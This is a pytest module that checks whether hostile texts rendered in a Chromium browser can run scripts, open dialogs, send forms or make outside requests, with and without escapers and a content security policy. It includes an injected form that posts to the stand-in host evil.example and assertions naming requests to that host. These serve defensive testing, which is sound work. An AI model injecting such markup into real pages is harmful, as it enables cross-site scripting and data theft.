"""Hostile texts in a real browser: nothing runs, nothing leaves, no page changes, whatever stands in a log.

POSTMORTEM_LONG=1 shows all texts of the corpora; else a sample of them. How many documents were shown, and in
how many seconds, stands at the end of pytest's output with `-s`.
"""

from __future__ import annotations

import os
import time
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from tests.browser.breaking import broken_escapers
from tests.browser.conftest import chromium
from tests.browser.filled_logs import fields
from tests.browser.hostile_outputs import Text, documents, logs_of, page, unguarded, with_texts
from tests.browser.hostile_texts import SCRIPTS, corpora, texts
from tests.browser.window import Job, Seen, Window

LONG = bool(os.environ.get("POSTMORTEM_LONG"))
AT_ONCE = 8
DONE = ("scripts", "asked", "dialogs", "said", "went", "calls", "foreign", "strange", "differs")
HARMLESS = (
    'A plain text, *emphasis*, **strong**, `code`, ~~gone~~, [a link](https://example.org/ "title") and '
    "https://example.org/x or www.example.org.\n\n# Heading\n\n## Under it\n\n### And on\n\n"
    "- one\n- two\n\n1. one\n\n> quoted\n\n"
    "| a | b |\n| :- | -: |\n| c | d |\n\n```\ncode\n```\n\n~~~python\ncode\n~~~\n\n---\n\nhard  \nbreak",
    "\u05d0 \u05d1",
    "plain",
    "",
    ".",
    "5. x\n\n- [ ] a\n- [x] b",
)


def _of(one: Seen, *kinds: str) -> dict[str, Any]:
    """Return what a document did, by kind; nothing at all is what it should have done."""
    return {kind: one[kind] for kind in kinds or DONE if one.get(kind)}


@pytest.fixture(scope="module")
def window(modules: Path) -> Iterator[Window]:
    """One browser, which has seen what harmless documents are made of."""
    with Window(chromium(), modules) as one:
        for text in HARMLESS if LONG else HARMLESS[:2]:
            seen = one.show_one(documents(text, learn=True))
            assert [_of(each) for each in seen if _of(each)] == []
        yield one


def _groups(several: Sequence[str]) -> Iterator[Sequence[str]]:
    for start in range(0, len(several), AT_ONCE):
        yield several[start : start + AT_ONCE]


def test_a_text_stands_in_every_field_of_the_format() -> None:
    logs = logs_of(Text("<b>"))
    filled = logs.texts.filled | logs.names.filled | logs.notation.filled
    assert set(fields()) - filled.keys() == set()
    assert len(filled) > 140


def test_the_corpora_are_read() -> None:
    found = corpora()
    if not found:
        pytest.skip("the folder of foreign data is not beside this checkout")
    assert {name: len(several) for name, several in found.items()} == {
        "naughty strings": 515,
        "sanitizer fixtures": 223,
    }


def test_no_text_does_anything_in_any_output_without_a_policy(window: Window) -> None:
    several, start, before = texts(), time.monotonic(), window.opened
    shown = window.show([one for text in group for one in documents(text)] for group in _groups(several))
    wrong = [f"{one['name']}: {_of(one)}" for seen in shown for one in seen if _of(one)]
    spent, opened = time.monotonic() - start, window.opened - before
    print(f"\n{len(several)} texts x {len(set(fields()))} fields: {opened} documents in {spent:.0f} s")
    assert wrong == [], "\n".join(wrong)


def _broken(text: str, guarded: bool, unsent: bool = True) -> Job:
    made = page(with_texts(Text(text)), Text(text), theme=True)
    html = made if guarded else unguarded(made)
    name = repr(text[:60])
    wait = 100 if unsent else 2000  # a form is sent by another process of the browser, which may be busy
    return {"kind": "page", "name": name, "html": html, "broken": True, "unsent": unsent, "wait": wait}


def _by_itself(one: Seen) -> dict[str, Any]:
    """Return what a page did by itself, but go elsewhere: no policy stops a refresh or a link."""
    done = _of(one, "scripts", "dialogs", "asked")
    asked = [each for each in done.pop("asked", ()) if not each.startswith("document ")]
    calls = [] if one.get("went") else one.get("calls")
    return done | ({"asked": asked} if asked else {}) | ({"calls": calls} if calls else {})


def test_with_every_escaper_broken_the_policy_alone_lets_nothing_run(window: Window) -> None:
    with broken_escapers():
        window.show_one([{**_broken("plain", guarded=True), "learn": True}])
        several, start = texts(), time.monotonic()
        shown = window.show([_broken(text, guarded=True) for text in group] for group in _groups(several))
        found = [one for seen in shown for one in seen]
    gone = [one["name"] for one in found if one.get("went")]
    spent = time.monotonic() - start
    print(f"\n{len(found)} pages with broken escapers in {spent:.0f} s; went elsewhere: {gone}")
    assert len(found) == len(several)
    assert [f"{one['name']}: {_by_itself(one)}" for one in found if _by_itself(one)] == []


def test_with_every_escaper_broken_the_policy_alone_lets_no_form_be_sent(window: Window) -> None:
    form = "<form action='https://evil.example/'><input name=a value=b></form>"
    with broken_escapers():
        window.show_one([{**_broken("plain", guarded=True), "learn": True}])
        (one,) = window.show_one([_broken(form, guarded=True, unsent=False)])
    assert any("form-action" in said for said in one["said"])
    assert _of(one, "scripts", "asked", "dialogs", "went") == {}


def test_with_every_escaper_broken_and_no_policy_scripts_do_run(window: Window) -> None:
    several = SCRIPTS if LONG else (SCRIPTS[5], SCRIPTS[9])
    with broken_escapers():
        shown = window.show([_broken(text, guarded=False)] for text in several)
        found = [one for seen in shown for one in seen]
    ran = [one["name"] for one in found if one["scripts"] and one["dialogs"]]
    asked = [one["name"] for one in found if one["asked"]]
    print(f"\nno policy: scripts ran in {len(ran)} of {len(found)} pages, {len(asked)} asked for something")
    assert len(ran) >= len(several) // 2
    assert any("evil.example/a.css" in each for one in found for each in one["asked"])
    assert "https://evil.example/a.png" in " ".join(each for one in found for each in one["asked"])
